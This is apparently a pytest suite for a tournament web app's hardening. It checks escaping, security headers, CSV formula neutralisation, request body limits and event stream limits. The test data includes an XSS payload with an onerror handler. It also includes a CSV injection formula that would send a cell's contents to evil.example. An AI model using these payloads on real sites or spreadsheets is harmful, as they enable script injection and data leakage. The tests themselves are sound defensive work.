"""Hostile or ill-typed stored values never take a page down nor reach the page as markup;
every response carries the security headers; CSV exports never start a cell with a formula;
bodies past the limit are refused; event streams are bounded."""

from __future__ import annotations

import contextlib
import copy
import csv
import io
import logging
import random
import time
from collections.abc import Callable
from datetime import datetime
from typing import Any

import httpx
import pytest

from mesa.hub.demo.run import play_out
from mesa.hub.ingest.app import Hub
from mesa.hub.web.app import WebApp
from mesa.hub.web.http.headers import CSP
from mesa.hub.web.http.stream_slots import StreamSlots
from mesa.protocol import StateReport
from support.hubkit import NOW, PASSWORD, TODAY, FakeTable, act, login

pytestmark = pytest.mark.anyio

HOSTILE = '0"><img src=x onerror="window.__pwned=1">'
PAGES = (
    "/",
    "/live",
    "/index.json",
    "/live.json",
    "/director",
    "/director.json",
    "/director/tables/3",
    "/director/tables/3.json",
)


def publish_snapshot(table: FakeTable, change: Callable[[dict[str, Any]], None]) -> None:
    """The table's own state topic carries a snapshot changed by ``change`` (a hostile table).
    The ingest refuses what is ill-typed; the same snapshot is then planted in the store, as one
    that got past the check would be (a store written by an older hub): the pages must degrade,
    never fail, whatever they read."""
    snap = copy.deepcopy(table.table.snapshot())
    change(snap)
    table.seq += 1
    report = StateReport(table.id, table.stream, table.seq, table.seq, time.time(), snap)
    table._ingest([("state", report.to_payload())])
    with table.hub.store.transaction():
        table.hub.store.set_state(report)
    table.hub.projections.apply_state(report)


def assigned(table: FakeTable) -> FakeTable:
    table.apply(
        "assign",
        {
            "match_id": "G1-1",
            "players": {"a": "Ana", "b": "Beto"},
            "length": 3,
            "clock": {"preset": "singles"},
        },
    )
    return table


def score_is(value: Any) -> Callable[[dict[str, Any]], None]:
    def change(snap: dict[str, Any]) -> None:
        snap["match"]["score"] = value

    return change


async def answers(client: httpx.AsyncClient) -> dict[str, int]:
    return {p: (await client.get(p)).status_code for p in PAGES}


async def test_an_ill_typed_snapshot_degrades_one_card_not_the_pages(
    client: httpx.AsyncClient,
    web: WebApp,
    hub: Hub,
    fake_table: FakeTable,
    caplog: pytest.LogCaptureFixture,
) -> None:
    await login(client)
    publish_snapshot(assigned(fake_table), score_is(5))
    with caplog.at_level(logging.WARNING, logger="mesa.web"):
        got = await answers(client)
    assert got == dict.fromkeys(PAGES, 200), got
    card = (await client.get("/index.json")).json()["tables"][0]
    assert card["id"] == "3" and "snapshot" in card["degraded"]
    assert hub.metrics.get("web_card_degraded") >= 1
    assert any("table 3" in r.getMessage() and "snapshot" in r.getMessage() for r in caplog.records)


async def test_a_well_formed_match_card_is_not_degraded(
    client: httpx.AsyncClient, hub: Hub, fake_table: FakeTable
) -> None:
    """A match before its Crawford game (the view says "pre") is a plain card: no '?' and no
    warning on every poll (the demo logged one per table per change)."""
    assigned(fake_table)
    card = (await client.get("/index.json")).json()["tables"][0]
    assert card["crawford"] == "pre" and card["degraded"] == []
    assert hub.metrics.get("web_card_degraded") == 0


@pytest.mark.parametrize(
    "change",
    [
        score_is({"a": HOSTILE, "b": [1]}),
        score_is(None),
        lambda s: s.update(players={"a": {"x": 1}, "b": HOSTILE * 50}),
        lambda s: s.update(clock=7),
        lambda s: s.update(match="x"),
        lambda s: s.update(state=HOSTILE),
        lambda s: s.update(last_now="yesterday"),
        lambda s: s.update(director_call=HOSTILE),
        lambda s: s.clear(),
    ],
)
async def test_every_page_answers_whatever_the_snapshot_holds(
    client: httpx.AsyncClient, web: WebApp, fake_table: FakeTable, change: Any
) -> None:
    await login(client)
    publish_snapshot(assigned(fake_table), change)
    assert await answers(client) == dict.fromkeys(PAGES, 200)
    for path in ("/", "/director", "/director/tables/3"):
        assert "<img src=x" not in (await client.get(path)).text


async def test_the_pages_answer_after_a_restart_on_the_same_store(
    hub: Hub, fake_table: FakeTable
) -> None:
    publish_snapshot(assigned(fake_table), score_is(5))
    hub.close()
    again = Hub(hub.settings)
    web = WebApp(again, again.settings.replace(director_password=PASSWORD), now=lambda: NOW)
    try:
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(web.asgi()), base_url="http://mesa.test"
        ) as client:
            await login(client)
            assert await answers(client) == dict.fromkeys(PAGES, 200)
    finally:
        web.close()
        again.close()


async def test_a_hostile_score_is_text_on_the_table_page(
    client: httpx.AsyncClient, web: WebApp, fake_table: FakeTable
) -> None:
    await login(client)
    publish_snapshot(assigned(fake_table), score_is({"a": HOSTILE, "b": 0}))
    page = (await client.get("/director/tables/3")).text
    assert "<img" not in page and "onerror" not in page
    card = (await client.get("/director/tables/3.json")).json()["table"]
    assert card["degraded"] and card["score"]["a"] in (0, "?")


def test_the_table_page_escapes_even_an_unchecked_card(web: WebApp) -> None:
    """Safe by construction: the template escapes whatever the card holds."""
    card = web.poller._card("3", {"table": "3"}, None, time.time())
    card.update(score={"a": HOSTILE, "b": 0}, players={"a": HOSTILE, "b": "<b>x</b>"})
    ctx = web.site.base_context(None, "es", section="director", title="t")
    ctx.update(table=card, commands=[], stale=None, csrf="tok")
    html = web.site.render("director/table.html", ctx)
    assert "<img" not in html and "<b>x</b>" not in html
    assert "&lt;img src=x" in html or "&#34;&gt;&lt;img" in html


async def test_every_response_carries_the_security_headers(
    client: httpx.AsyncClient, web: WebApp
) -> None:
    for path in ("/", "/index.json", "/static/mesa.css", "/static/live.js", "/nowhere", "/login"):
        r = await client.get(path)
        assert r.headers["content-security-policy"] == CSP, path
        assert r.headers["x-frame-options"] == "DENY"
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"
    assert "script-src 'self'" in CSP and "'unsafe-inline'" not in CSP


async def test_no_template_writes_inline_script_or_style(client: httpx.AsyncClient) -> None:
    from mesa.hub.web.http.paths import TEMPLATES

    for path in TEMPLATES.rglob("*.html"):
        text = path.read_text()
        assert "|safe" not in text and "<style" not in text and " style=" not in text, path
        assert " onclick=" not in text and " onsubmit=" not in text, path
        assert "<script>" not in text, path


async def test_forfeit_of_an_unknown_match_is_refused_and_audited(
    client: httpx.AsyncClient, web: WebApp
) -> None:
    from support.hubkit import make_tournament

    make_tournament(web, 6)
    csrf = await login(client)
    r = await act(client, csrf, "forfeit", match_id="NOPE-9", winner="a", reason="no vino")
    assert r.status_code == 409 and r.json()["ok"] is False
    last = web.store.audit_log()[0]
    assert (last.action, last.outcome) == ("forfeit", "refused")


async def test_csv_exports_neutralise_formulas(client: httpx.AsyncClient, web: WebApp) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"premio")'

    def run(club: Any, now: datetime) -> None:
        club.create_tournament("2025-03", "Marzo", TODAY)
        names = [evil, "+SUMA", "@CMD", "-1+2", "ANA", "BEA", "EVA", "LUZ", "SOL"]
        for name in names:
            club.register("2025-03", club.registry.add_new(name).id, now=now)
        club.start("2025-03", seed=7, now=now)
        play_out(club, "2025-03", random.Random(2), now)

    web.desk.call(run)
    for name in ("final.csv", "standings.csv", "matches.csv", "ranking.csv"):
        for lang, delim in (("es", ";"), ("en", ",")):
            text = (await client.get(f"/exports/{name}?lang={lang}")).text
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=delim) for c in row]
            assert not [c for c in cells if c[:1] in ("=", "+", "@")], (name, lang)
            assert not [
                c
                for c in cells
                if c.startswith("-") and not c[1:].replace(",", "").replace(".", "").isdigit()
            ], (name, lang)
            if name != "ranking.csv":
                assert any(c.startswith("'=HYPERLINK") for c in cells), (name, lang)


async def test_a_body_past_the_limit_is_refused_while_it_streams(
    client: httpx.AsyncClient, web: WebApp
) -> None:
    sent = 0

    async def chunks() -> Any:
        nonlocal sent
        for _ in range(100):  # 6.4 MB offered, no Content-Length (chunked)
            sent += 1
            yield b"x" * 65536

    r = await client.post("/login", content=chunks())
    assert r.status_code == 413 and r.json()["error"] == "too_large"
    assert "demasiado grande" in r.json()["message"]  # in the reader's language (es by default)
    assert r.headers["content-security-policy"] == CSP
    assert sent < 30  # refused as soon as the limit passed, the rest never read
    r = await client.post(
        "/login", content=b"user=director", headers={"content-length": "50000000"}
    )
    assert r.status_code == 413
    assert web.site.metrics.get("web_body_refused") == 2
    # a normal form still goes through
    r = await client.post("/login", data={"user": "director", "password": PASSWORD})
    assert r.status_code == 303


async def test_event_streams_are_bounded_per_address(
    client: httpx.AsyncClient, web: WebApp
) -> None:
    web.site.streams = StreamSlots(per_address=2, total=10)
    for _ in range(2):
        assert web.site.streams.take("127.0.0.1")
    r = await client.get("/events", headers={"x-forwarded-for": "1.2.3.4"})
    assert r.status_code == 429 and r.headers["retry-after"] == "1"
    assert web.site.metrics.get("web_streams_refused") == 1


async def test_a_body_that_stops_arriving_is_answered_408() -> None:
    import asyncio

    from mesa.hub.web.http.body_limit import BodyLimit

    async def app(scope: Any, receive: Any, send: Any) -> None:
        while (await receive()).get("more_body"):
            pass
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    pieces = [{"type": "http.request", "body": b"user=a", "more_body": True}]

    async def receive() -> dict[str, Any]:
        if pieces:
            return pieces.pop()
        await asyncio.sleep(30)  # the client went quiet mid-body
        return {"type": "http.disconnect"}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    limited = BodyLimit(app, chunk_timeout=0.05)
    await limited({"type": "http", "headers": [(b"transfer-encoding", b"chunked")]}, receive,
                  send)
    assert sent[0]["status"] == 408


async def test_a_request_without_a_body_may_wait_for_its_disconnect_untimed() -> None:
    """An event stream's GET waits on ``receive`` for the client to leave: timing that wait
    like a body's tore every live page's stream down after ``chunk_timeout`` (uvicorn: "ASGI
    callable returned without completing response", 48 times in an evening)."""
    import asyncio

    from mesa.hub.web.http.body_limit import BodyLimit

    async def stream(scope: Any, receive: Any, send: Any) -> None:
        await send({"type": "http.response.start", "status": 200, "headers": []})
        # Starlette's is_disconnected(): a receive in a cancelled scope loses the request
        # message; the next receive waits for the disconnect.
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(receive(), 0.005)
        assert (await receive())["type"] == "http.disconnect"
        await send({"type": "http.response.body", "body": b"", "more_body": False})

    messages = [{"type": "http.request", "body": b"", "more_body": False}]

    async def receive() -> dict[str, Any]:
        if messages:
            message = messages.pop()  # taken off the connection, then the receive is cancelled
            await asyncio.sleep(0.02)
            return message
        await asyncio.sleep(0.3)  # the browser stays on the page well past the timer
        return {"type": "http.disconnect"}

    sent: list[dict[str, Any]] = []

    async def send(message: dict[str, Any]) -> None:
        sent.append(message)

    await BodyLimit(stream, chunk_timeout=0.05)({"type": "http", "headers": []}, receive, send)
    assert [m.get("status") for m in sent] == [200, None]
    assert sent[-1]["more_body"] is False


async def test_even_the_500_page_carries_the_security_headers(web: WebApp) -> None:
    async def broken(fn: Any) -> Any:
        raise RuntimeError("the desk is gone")

    web.site.read = broken  # type: ignore[method-assign]
    transport = httpx.ASGITransport(web.asgi(), raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://mesa.test") as c:
        r = await c.get("/groups")
    assert r.status_code == 500 and r.headers["content-security-policy"] == CSP
